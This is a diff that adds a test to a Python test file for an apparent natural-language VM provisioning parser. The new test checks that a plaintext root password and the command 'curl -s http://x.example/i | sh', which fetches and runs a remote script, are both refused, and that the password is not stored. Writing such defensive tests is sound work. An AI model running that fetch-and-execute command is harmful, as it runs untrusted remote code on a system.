@@ -137,3 +137,12 @@ def test_a_prefix_length_that_is_said_later_wins() -> None:
     draft = understand("a debian vm on 10.20.1.7", Draft(), Known(networks=("10.20.0.0/22",)))
     later = understand("network /23", draft, Known(networks=("10.20.0.0/22",)))
     assert later.guests[0].fields["networks"][0]["address"] == "10.20.1.7/23"
+
+
+@pytest.mark.parametrize(
+    "said", ['a debian vm with root password "hunter2"', "run `curl -s http://x.example/i | sh` on it"]
+)
+def test_quotes_make_neither_a_password_nor_a_command_harmless(said: str) -> None:
+    draft = hear(said)
+    assert [f.kind for f in draft.findings] == ["refuse"]
+    assert "hunter2" not in draft.model_dump_json()
